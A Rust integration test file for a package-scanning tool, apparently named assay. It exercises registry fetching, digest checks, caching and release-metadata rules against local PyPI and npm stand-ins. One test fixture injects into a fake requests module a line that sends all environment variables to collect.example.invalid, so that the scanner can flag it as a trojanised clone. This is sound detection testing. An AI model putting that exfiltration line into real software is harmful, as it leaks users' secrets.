//! Registry specs (`assay scan pypi:NAME==VERSION`, `npm:NAME@VERSION`) against a
//! simple index and an npm registry started by the test on 127.0.0.1: the PEP 691 JSON
//! page and the PEP 503 HTML fallback, an npm packument with a scoped name, a wheel-only
//! payload (the sdist is clean), sha256 mismatches and missing digests refused naming the
//! file, cache hits that download nothing, latest-version selection that skips yanked
//! files and pre-releases, and the release metadata rules DEP013 release-burst, DEP014
//! dormant-release and DEP015 attestation-dropped (must match and must not match). No
//! test reaches the internet.
#![cfg(feature = "net")]
#![allow(clippy::unwrap_used, missing_docs)]

mod common;

use base64::Engine as _;
use serde_json::{Value, json};
use sha2::{Digest, Sha256, Sha512};
use std::collections::HashMap;
use std::io::Write;
use std::path::Path;
use std::sync::{Arc, Mutex};

const DAY: i64 = 86_400;

/// Fixed routes: path → (content type, body); every other path is a 404.
type Routes = Arc<Mutex<HashMap<String, (String, Vec<u8>)>>>;

struct Server {
    http: common::Server,
    routes: Routes,
}

impl Server {
    fn start() -> Server {
        let routes: Routes = Arc::default();
        let r = routes.clone();
        let http =
            common::Server::start(move |req| match r.lock().unwrap().get(&req.path).cloned() {
                Some((ct, body)) => common::Response::new(200, &ct, body),
                None => common::Response::not_found(),
            });
        Server { http, routes }
    }

    fn url(&self) -> String {
        self.http.url()
    }

    fn add(&self, path: &str, content_type: &str, body: Vec<u8>) {
        self.routes
            .lock()
            .unwrap()
            .insert(path.to_owned(), (content_type.to_owned(), body));
    }

    /// Requests for paths starting with `prefix`.
    fn count(&self, prefix: &str) -> usize {
        self.http
            .requests()
            .iter()
            .filter(|r| r.path.starts_with(prefix))
            .count()
    }
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

fn now() -> i64 {
    jiff::Timestamp::now().as_second()
}

fn iso(t: i64) -> String {
    jiff::Timestamp::from_second(t).unwrap().to_string()
}

/// A pure-Python wheel with `files` plus METADATA, WHEEL and a correct RECORD.
fn wheel(name: &str, version: &str, files: &[(&str, &[u8])]) -> (String, Vec<u8>) {
    let dir = tempfile::TempDir::new().unwrap();
    let path = common::write_wheel(dir.path(), name, version, files);
    let file = path.file_name().unwrap().to_string_lossy().into_owned();
    (file, std::fs::read(&path).unwrap())
}

/// A gzip tar of `files`.
fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (p, d) in files {
        let mut h = tar::Header::new_gnu();
        h.set_path(p).unwrap();
        h.set_size(d.len() as u64);
        h.set_mode(0o644);
        h.set_mtime(0);
        h.set_cksum();
        b.append(&h, *d).unwrap();
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&b.into_inner().unwrap()).unwrap();
    gz.finish().unwrap()
}

/// A clean sdist of `name` `version`.
fn sdist(name: &str, version: &str) -> (String, Vec<u8>) {
    let top = format!("{name}-{version}");
    let pkg_info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
    let init = format!("{top}/{name}/__init__.py");
    let data = tgz(&[
        (&format!("{top}/PKG-INFO"), pkg_info.as_bytes()),
        (
            &format!("{top}/pyproject.toml"),
            b"[project]\nname = \"x\"\nversion = \"1\"\n",
        ),
        (&init, b"def add(a, b):\n    return a + b\n"),
    ]);
    (format!("{top}.tar.gz"), data)
}

/// One published file: (name, bytes, upload time, yanked, attested).
type Published = (String, Vec<u8>, i64, bool, bool);

/// Serve `files` under `/files/` and the PEP 691 JSON page of `name` at
/// `/simple/{name}/`; `sha` overrides the published sha256 per file name.
fn publish_json(server: &Server, name: &str, files: &[Published], sha: &[(&str, Option<&str>)]) {
    let mut out = Vec::new();
    for (f, data, t, yanked, attested) in files {
        let digest = match sha.iter().find(|(n, _)| n == f) {
            Some((_, h)) => h.map(str::to_owned),
            None => Some(hex(&Sha256::digest(data))),
        };
        let mut e = json!({
            "filename": f,
            "url": format!("../../files/{f}"),
            "hashes": digest.map_or_else(|| json!({}), |h| json!({"sha256": h})),
            "upload-time": iso(*t),
            "yanked": yanked,
            "size": data.len(),
        });
        if *attested {
            e["provenance"] = json!(format!("{}/integrity/{f}/provenance", server.url()));
        }
        out.push(e);
        server.add(
            &format!("/files/{f}"),
            "application/octet-stream",
            data.clone(),
        );
    }
    let doc = json!({"meta": {"api-version": "1.1"}, "name": name, "files": out});
    server.add(
        &format!("/simple/{name}/"),
        "application/vnd.pypi.simple.v1+json",
        doc.to_string().into_bytes(),
    );
}

struct Run {
    code: i32,
    report: Value,
    stderr: String,
}

fn scan(cache: &Path, args: &[&str]) -> Run {
    let mut all = vec!["scan", "--no-progress"];
    all.extend_from_slice(args);
    assay(cache, &all)
}

/// `assay ARGS --format json` with the cache in `cache` and no registry variables.
fn assay(cache: &Path, args: &[&str]) -> Run {
    let out = assert_cmd::cargo::cargo_bin_cmd!("assay")
        .current_dir(cache)
        .env("NO_COLOR", "1")
        .env("ASSAY_CACHE_DIR", cache)
        .env_remove("ASSAY_INDEX_URL")
        .env_remove("ASSAY_NPM_REGISTRY")
        .args(args)
        .args(["--format", "json"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let report = serde_json::from_str(&stdout).unwrap_or(Value::Null);
    Run {
        code: out.status.code().unwrap_or(-1),
        report,
        stderr,
    }
}

/// (artifact path's last component, verdict) of every artifact.
fn verdicts(report: &Value) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = report["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            let p = a["path"].as_str().unwrap();
            let last = if p.contains(':') {
                p.to_owned()
            } else {
                Path::new(p)
                    .file_name()
                    .unwrap()
                    .to_string_lossy()
                    .into_owned()
            };
            (last, a["verdict"].as_str().unwrap().to_owned())
        })
        .collect();
    v.sort();
    v
}

/// The rule codes reported on the artifact named `label`.
fn metadata_codes(report: &Value, label: &str) -> Vec<String> {
    report["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["path"] == label)
        .flat_map(|a| a["findings"].as_array().unwrap().clone())
        .map(|f| f["rule"]["code"].as_str().unwrap().to_owned())
        .collect()
}

fn index(server: &Server) -> String {
    format!("{}/simple", server.url())
}

#[test]
fn wheel_only_payload_is_found_and_the_cache_is_reused() {
    let server = Server::start();
    let cache = tempfile::TempDir::new().unwrap();
    let t = now();
    let pth = common::litellm_pth_line();
    let (w, wdata) = wheel(
        "pkg",
        "1.0",
        &[
            ("pkg/__init__.py", b"def add(a, b):\n    return a + b\n"),
            ("pkg_init.pth", pth.as_bytes()),
        ],
    );
    let (s, sdata) = sdist("pkg", "1.0");
    let (w09, w09data) = wheel("pkg", "0.9", &[("pkg/__init__.py", b"x = 1\n")]);
    publish_json(
        &server,
        "pkg",
        &[
            (w09, w09data, t - 500 * DAY, false, true),
            (s.clone(), sdata, t - 10 * DAY, false, false),
            (w.clone(), wdata, t - 10 * DAY + 60, false, false),
        ],
        &[],
    );
    let idx = index(&server);
    // The spec is written unnormalised (PEP 503 applies).
    let r = scan(cache.path(), &["pypi:Pkg==1.0", "--index-url", &idx]);
    assert_eq!(r.code, 1, "{}\n{}", r.stderr, r.report);
    assert_eq!(
        verdicts(&r.report),
        [
            (w.clone(), "malicious".to_owned()),
            (s.clone(), "clean".to_owned()),
            // Context, not proof: DEP014 (low) and DEP015 (medium) decide nothing alone.
            ("pypi:pkg==1.0".to_owned(), "clean".to_owned()),
        ],
        "{}",
        r.report
    );
    // DEP014 (490 days after 0.9) and DEP015 (0.9 was attested, 1.0 is not).
    let mut codes = metadata_codes(&r.report, "pypi:pkg==1.0");
    codes.sort();
    assert_eq!(codes, ["DEP014", "DEP015"], "{}", r.report);
    assert_eq!(server.count("/files/"), 2);
    assert!(
        r.stderr.contains("pypi:pkg==1.0: 2 file(s)"),
        "{}",
        r.stderr
    );
    // The index was asked for PEP 691 JSON.
    let reqs = server.http.requests();
    let page = reqs.iter().find(|q| q.path == "/simple/pkg/").unwrap();
    assert!(
        page.header("accept")
            .unwrap()
            .starts_with("application/vnd.pypi.simple.v1+json"),
        "{page:?}"
    );
    // Content-addressed: the blob is named by its sha256, the release directory by the
    // published names.
    let blob = cache.path().join("blobs/sha256").join(hex(&Sha256::digest(
        std::fs::read(cache.path().join("releases/pypi/pkg/1.0").join(&w)).unwrap(),
    )));
    assert!(blob.is_file());

    // Again: everything from the cache, only the index page is fetched.
    let r = scan(cache.path(), &["pypi:pkg==1.0", "--index-url", &idx]);
    assert_eq!(r.code, 1);
    assert_eq!(
        server.count("/files/"),
        2,
        "a cached blob was downloaded again"
    );
    assert!(r.stderr.contains("(2 from the cache)"), "{}", r.stderr);

    // A damaged blob is noticed and fetched again.
    std::fs::write(&blob, b"tampered").unwrap();
    let r = scan(cache.path(), &["pypi:pkg==1.0", "--index-url", &idx]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert_eq!(server.count("/files/"), 3);

    // Must not match: the first release has no metadata finding.
    let r = scan(cache.path(), &["pypi:pkg==0.9", "--index-url", &idx]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(metadata_codes(&r.report, "pypi:pkg==0.9").is_empty());
    assert_eq!(verdicts(&r.report).len(), 1, "{}", r.report);
}

#[test]
fn sha256_mismatch_and_missing_digest_are_refused_naming_the_file() {
    let server = Server::start();
    let cache = tempfile::TempDir::new().unwrap();
    let t = now();
    let (w, wdata) = wheel("bad", "1.0", &[("bad/__init__.py", b"x = 1\n")]);
    let (s, sdata) = sdist("bad", "1.0");
    publish_json(
        &server,
        "bad",
        &[
            (w.clone(), wdata.clone(), t - DAY, false, false),
            (s.clone(), sdata.clone(), t - DAY, false, false),
        ],
        &[(&w, Some(&"00".repeat(32)))],
    );
    let idx = index(&server);
    let r = scan(cache.path(), &["pypi:bad==1.0", "--index-url", &idx]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(&format!("{w}: sha256 mismatch")),
        "{}",
        r.stderr
    );
    // Nothing unverified is kept.
    assert!(!cache.path().join("releases/pypi/bad/1.0").join(&w).exists());
    assert!(
        !cache
            .path()
            .join("blobs/sha256")
            .join("00".repeat(32))
            .exists()
    );

    // No published sha256: refused before any download.
    let before = server.count("/files/");
    publish_json(
        &server,
        "bad",
        &[
            (w.clone(), wdata, t - DAY, false, false),
            (s.clone(), sdata, t - DAY, false, false),
        ],
        &[(&s, None)],
    );
    let r = scan(cache.path(), &["pypi:bad==1.0", "--index-url", &idx]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains(&s) && r.stderr.contains("publishes no sha256"),
        "{}",
        r.stderr
    );
    assert_eq!(server.count("/files/"), before);

    // Unknown project, unknown version, malformed page: errors naming the URL or spec.
    let r = scan(cache.path(), &["pypi:nope", "--index-url", &idx]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("/simple/nope/: HTTP status 404"),
        "{}",
        r.stderr
    );
    let r = scan(cache.path(), &["pypi:bad==7", "--index-url", &idx]);
    assert!(
        r.stderr.contains("pypi:bad==7: no file of version 7"),
        "{}",
        r.stderr
    );
    server.add(
        "/simple/broken/",
        "application/vnd.pypi.simple.v1+json",
        b"{\"files\": [".to_vec(),
    );
    let r = scan(cache.path(), &["pypi:broken", "--index-url", &idx]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("/simple/broken/: malformed PEP 691 JSON"),
        "{}",
        r.stderr
    );
    let r = scan(cache.path(), &["pypi:x>=1"]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("`pypi:x>=1`"), "{}", r.stderr);
}

#[test]
fn pep503_html_fallback_picks_the_latest_release_and_skips_yanked_files() {
    let server = Server::start();
    let cache = tempfile::TempDir::new().unwrap();
    let mut page = String::from("<!DOCTYPE html>\n<html><body><h1>Links for html-pkg</h1>\n");
    let mut publish = |name: String, data: Vec<u8>, attrs: &str| {
        let sha = hex(&Sha256::digest(&data));
        page.push_str(&format!(
            "<a href=\"../../files/{name}#sha256={sha}\" {attrs}>{name}</a><br/>\n"
        ));
        server.add(&format!("/files/{name}"), "application/octet-stream", data);
    };
    let (a, d) = sdist("html_pkg", "1.0");
    publish(a, d, "");
    let (b, d) = wheel("html_pkg", "1.1", &[("html_pkg/__init__.py", b"x = 1\n")]);
    publish(b.clone(), d, "");
    let (c, d) = sdist("html_pkg", "1.1");
    publish(c.clone(), d, "data-yanked=\"broken sdist\"");
    let (e, d) = wheel("html_pkg", "1.2", &[("html_pkg/__init__.py", b"x = 1\n")]);
    publish(e.clone(), d, "data-yanked=\"\"");
    let (f, d) = sdist("html_pkg", "2.0rc1");
    publish(f.clone(), d, "");
    page.push_str("</body></html>\n");
    server.add("/simple/html-pkg/", "text/html", page.into_bytes());
    let idx = index(&server);
    let r = scan(cache.path(), &["pypi:html_pkg", "--index-url", &idx]);
    assert_eq!(r.code, 0, "{}\n{}", r.stderr, r.report);
    assert_eq!(verdicts(&r.report), [(b.clone(), "clean".to_owned())]);
    assert!(
        r.stderr.contains("pypi:html-pkg==1.1: 1 file(s)"),
        "{}",
        r.stderr
    );
    let fetched: Vec<String> = server
        .http
        .requests()
        .into_iter()
        .filter(|q| q.path.starts_with("/files/"))
        .map(|q| q.path)
        .collect();
    assert_eq!(fetched, [format!("/files/{b}")]);
    // A pinned yanked release is fetched (what `pip install ==1.2` takes), with DEP011.
    let r = scan(cache.path(), &["pypi:html-pkg==1.2", "--index-url", &idx]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(metadata_codes(&r.report, "pypi:html-pkg==1.2"), ["DEP011"]);
    // The index URL also comes from the environment and from assay.toml.
    let r = assert_cmd::cargo::cargo_bin_cmd!("assay")
        .current_dir(cache.path())
        .env("ASSAY_CACHE_DIR", cache.path())
        .env("ASSAY_INDEX_URL", &idx)
        .args(["scan", "--format", "json", "pypi:html-pkg==1.1"])
        .output()
        .unwrap();
    assert_eq!(
        r.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&r.stderr)
    );
    let conf = cache.path().join("conf.toml");
    std::fs::write(&conf, format!("[registry]\nindex-url = \"{idx}\"\n")).unwrap();
    let r = scan(
        cache.path(),
        &["--config", conf.to_str().unwrap(), "pypi:html-pkg==1.1"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
}

/// Publish the versions of an npm package: (version, days ago, attested) and serve the
/// tarballs; `bad` versions publish a wrong digest.
fn publish_npm(server: &Server, name: &str, versions: &[(&str, i64, bool)], bad: &[&str]) {
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let unscoped = name.rsplit('/').next().unwrap();
    let mut vs = serde_json::Map::new();
    let mut time = json!({"created": iso(now() - 1000 * DAY)});
    for (v, secs_ago, attested) in versions {
        let pj = format!(
            "{{\"name\": \"{name}\", \"version\": \"{v}\", \"scripts\": {{\"test\": \"node t.js\"}}}}"
        );
        let tarball = tgz(&[
            ("package/package.json", pj.as_bytes()),
            ("package/index.js", b"module.exports = (a, b) => a + b;\n"),
        ]);
        let integrity = if bad.contains(v) {
            format!("sha512-{}", b64(&[7; 64]))
        } else {
            format!("sha512-{}", b64(&Sha512::digest(&tarball)))
        };
        let path = format!("/{name}/-/{unscoped}-{v}.tgz");
        let mut dist = json!({"tarball": format!("{}{path}", server.url()), "integrity": integrity,
                              "shasum": hex(&[0; 20])});
        if *attested {
            dist["attestations"] = json!({"url": "https://x.example.invalid/att",
                "provenance": {"predicateType": "https://slsa.dev/provenance/v1"}});
        }
        vs.insert(
            (*v).into(),
            json!({"name": name, "version": v, "dist": dist}),
        );
        time[*v] = iso(now() - secs_ago).into();
        server.add(&path, "application/octet-stream", tarball);
    }
    let latest = versions.last().unwrap().0;
    let doc = json!({"name": name, "dist-tags": {"latest": latest}, "versions": vs, "time": time});
    server.add(
        &format!("/{}", name.replacen('/', "%2f", 1)),
        "application/json",
        doc.to_string().into_bytes(),
    );
}

#[test]
fn npm_scoped_spec_burst_and_attestation_rules() {
    let server = Server::start();
    let cache = tempfile::TempDir::new().unwrap();
    let h = 3600;
    publish_npm(
        &server,
        "@scope/name",
        &[
            ("1.0.0", 200 * DAY, true),
            ("1.0.1", 100 * DAY, true),
            ("1.0.2", 10 * h, false),
            ("1.0.3", 6 * h, false),
            ("1.0.4", 2 * h, false),
        ],
        &["1.0.3"],
    );
    let reg = server.url();
    // The latest: one of three versions within hours after 100 quiet days (DEP013), and
    // the first without the attestation 1.0.1 had — 1.0.4's predecessor is 1.0.3, which
    // had none, so DEP015 is raised for 1.0.2 only.
    let r = scan(cache.path(), &["npm:@scope/name", "--npm-registry", &reg]);
    assert_eq!(r.code, 0, "{}\n{}", r.stderr, r.report);
    assert_eq!(
        metadata_codes(&r.report, "npm:@scope/name@1.0.4"),
        ["DEP013"]
    );
    let v = verdicts(&r.report);
    assert!(
        v.contains(&("name-1.0.4.tgz".to_owned(), "clean".to_owned())),
        "{v:?}"
    );
    assert!(
        cache
            .path()
            .join("releases/npm/@scope/name/1.0.4/name-1.0.4.tgz")
            .is_file()
    );
    let r = scan(
        cache.path(),
        &["npm:@scope/name@1.0.2", "--npm-registry", &reg],
    );
    let mut codes = metadata_codes(&r.report, "npm:@scope/name@1.0.2");
    codes.sort();
    assert_eq!(codes, ["DEP013", "DEP015"], "{}", r.report);
    // Must not match: an attested release after an attested one, long before the burst.
    let r = scan(
        cache.path(),
        &["npm:@scope/name@1.0.1", "--npm-registry", &reg],
    );
    assert_eq!(r.code, 0);
    assert!(metadata_codes(&r.report, "npm:@scope/name@1.0.1").is_empty());
    // A wrong sha512 integrity is refused naming the tarball (the sha1 shasum, also
    // wrong, is not consulted when integrity is present).
    let r = scan(
        cache.path(),
        &["npm:@scope/name@1.0.3", "--npm-registry", &reg],
    );
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("name-1.0.3.tgz: sha512 mismatch"),
        "{}",
        r.stderr
    );
    // A cache hit downloads nothing.
    let before = server.count("/@scope/name/-/");
    let r = scan(
        cache.path(),
        &["npm:@scope/name@1.0.1", "--npm-registry", &reg],
    );
    assert_eq!(r.code, 0);
    assert_eq!(server.count("/@scope/name/-/"), before);
    // Ranges are refused; unknown versions name the spec.
    let r = scan(
        cache.path(),
        &["npm:@scope/name@^1.0.0", "--npm-registry", &reg],
    );
    assert_eq!(r.code, 2);
    let r = scan(
        cache.path(),
        &["npm:@scope/name@9.9.9", "--npm-registry", &reg],
    );
    assert!(
        r.stderr.contains("npm:@scope/name@9.9.9: no version"),
        "{}",
        r.stderr
    );
}

/// `assay diff` and `assay provenance` take specs like `assay scan`: a release whose wheel
/// alone gains a `.pth` is found by the diff (REL001) and by the wheel/sdist comparison
/// (REL012).
#[test]
fn diff_and_provenance_of_registry_specs() {
    let server = Server::start();
    let cache = tempfile::TempDir::new().unwrap();
    let t = now();
    let pth = common::litellm_pth_line();
    let init = b"def add(a, b):\n    return a + b\n".as_slice();
    let (w1, w1data) = wheel("pkg", "1.0", &[("pkg/__init__.py", init)]);
    let (w2, w2data) = wheel(
        "pkg",
        "1.1",
        &[("pkg/__init__.py", init), ("pkg_init.pth", pth.as_bytes())],
    );
    let (s1, s1data) = sdist("pkg", "1.0");
    let (s2, s2data) = sdist("pkg", "1.1");
    let files: Vec<Published> = vec![
        (w1, w1data, t - 90 * DAY, false, false),
        (s1, s1data, t - 90 * DAY, false, false),
        (w2, w2data, t - 30 * DAY, false, false),
        (s2, s2data, t - 30 * DAY, false, false),
    ];
    publish_json(&server, "pkg", &files, &[]);
    let idx = index(&server);
    let r = assay(
        cache.path(),
        &[
            "diff",
            "pypi:pkg==1.0",
            "pypi:pkg==1.1",
            "--index-url",
            &idx,
        ],
    );
    assert_eq!(r.code, 1, "{}\n{}", r.report, r.stderr);
    let arts = r.report["artifacts"].as_array().unwrap();
    assert_eq!(arts.len(), 2, "{}", r.report);
    for a in arts {
        let wheel = a["path"].as_str().unwrap().ends_with(".whl");
        let codes: Vec<&str> = a["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["rule"]["code"].as_str().unwrap())
            .collect();
        assert_eq!(codes.contains(&"REL001"), wheel, "{a:#}");
        assert_eq!(
            a["verdict"],
            if wheel { "malicious" } else { "clean" },
            "{a:#}"
        );
    }
    let r = assay(
        cache.path(),
        &["provenance", "pypi:pkg==1.1", "--index-url", &idx],
    );
    assert_eq!(r.code, 1, "{}\n{}", r.report, r.stderr);
    assert!(r.report.to_string().contains("REL012"), "{}", r.report);
}

const SESSIONS: &str = "\"\"\"Stand-in for requests.sessions (assay test fixture).\"\"\"\nimport os\n\n\nclass Session:\n    def __init__(self):\n        self.headers = {}\n\n    def request(self, method, url, **kwargs):\n        return (method, url, kwargs)\n";

/// `assay diff --against-upstream`: a typosquat that is a copy of the project it
/// imitates plus one sink is REL013 trojanised-clone; an unchanged copy is not; a name
/// that imitates nothing is an error.
#[test]
fn trojanised_clone_against_its_upstream() {
    let server = Server::start();
    let cache = tempfile::TempDir::new().unwrap();
    let t = now();
    let (w, wdata) = wheel(
        "requests",
        "2.32.3",
        &[("requests/sessions.py", SESSIONS.as_bytes())],
    );
    publish_json(
        &server,
        "requests",
        &[(w, wdata, t - 90 * DAY, false, false)],
        &[],
    );
    let idx = index(&server);
    let dir = tempfile::TempDir::new().unwrap();

    let copy = common::write_wheel(
        dir.path(),
        "reqeusts",
        "2.32.3",
        &[("requests/sessions.py", SESSIONS.as_bytes())],
    );
    let r = assay(
        cache.path(),
        &[
            "diff",
            "--against-upstream",
            copy.to_str().unwrap(),
            "--index-url",
            &idx,
        ],
    );
    assert_eq!(r.code, 0, "{}\n{}", r.report, r.stderr);
    assert!(!r.report.to_string().contains("REL013"), "{}", r.report);

    let changed = SESSIONS.replace(
        "        self.headers = {}\n",
        "        self.headers = {}\n        import urllib.request, json\n        urllib.request.urlopen('https://collect.example.invalid/k', json.dumps(dict(os.environ)).encode())\n",
    );
    let trojan_dir = tempfile::TempDir::new().unwrap();
    let trojan = common::write_wheel(
        trojan_dir.path(),
        "reqeusts",
        "2.32.3",
        &[("requests/sessions.py", changed.as_bytes())],
    );
    let r = assay(
        cache.path(),
        &[
            "diff",
            "--against-upstream",
            trojan.to_str().unwrap(),
            "--index-url",
            &idx,
        ],
    );
    assert_eq!(r.code, 1, "{}\n{}", r.report, r.stderr);
    let a = &r.report["artifacts"][0];
    assert_eq!(a["verdict"], "malicious", "{a:#}");
    let f = a["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"]["code"] == "REL013")
        .unwrap_or_else(|| panic!("no REL013 in {a:#}"));
    let ev = f["evidence"].as_str().unwrap();
    assert!(
        ev.contains("imitates `requests`") && ev.contains("pypi:requests==2.32.3"),
        "{ev}"
    );
    assert_eq!(f["location"]["path"], "requests/sessions.py");

    let other_dir = tempfile::TempDir::new().unwrap();
    let other = common::write_wheel(
        other_dir.path(),
        "zqxvbnm-tool",
        "1.0",
        &[("zq/__init__.py", b"")],
    );
    let r = assay(
        cache.path(),
        &[
            "diff",
            "--against-upstream",
            other.to_str().unwrap(),
            "--index-url",
            &idx,
        ],
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains("imitates no popular project"),
        "{}",
        r.stderr
    );
}
